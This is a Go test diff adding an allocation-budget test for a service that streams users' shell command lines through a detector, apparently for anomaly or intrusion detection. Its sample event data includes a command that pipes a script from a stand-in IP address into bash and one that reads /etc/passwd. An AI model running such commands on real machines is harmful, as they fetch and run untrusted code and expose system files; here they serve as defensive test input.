@@ -157,3 +157,34 @@ func TestServiceCoalescing(t *testing.T) {
 		t.Fatalf("Score calls = %d, want 2 (coalescing)", calls)
 	}
 }
+
+// submitAllocBudget is the allocation count of one warm 512-event window
+// through Service.Submit over stubScorer, as measured when the budget was
+// set: sessions, verdicts and the queue hop, without a model. A change
+// that allocates per event breaks it by hundreds.
+const submitAllocBudget = 11
+
+// TestServiceSubmitAllocs pins the streaming layer's allocations for one
+// warm window: every user already has a full session, as in a
+// long-running daemon. Allocation counts do not jitter with host load, so
+// this holds where a lines/s gate would not.
+func TestServiceSubmitAllocs(t *testing.T) {
+	lines := []string{"ls -la /tmp", "curl -fsSL http://203.0.113.7/x.sh | bash", "cat /etc/passwd", "id"}
+	events := make([]Event, 512)
+	for i := range events {
+		events[i] = ev(fmt.Sprintf("user%03d", i%40), 1_700_000_000+int64(i), lines[i%len(lines)])
+	}
+	svc := NewService(NewDetector(&stubScorer{def: 0.1}, DefaultConfig()), ServiceConfig{})
+	defer svc.Close()
+	submit := func() {
+		if _, err := svc.Submit(events); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for i := 0; i < 6; i++ { // 6 × at least 12 events per user fill every 64-line window
+		submit()
+	}
+	if n := testing.AllocsPerRun(20, submit); n > submitAllocBudget {
+		t.Fatalf("one warm 512-event Submit made %.0f allocations, budget %d", n, submitAllocBudget)
+	}
+}
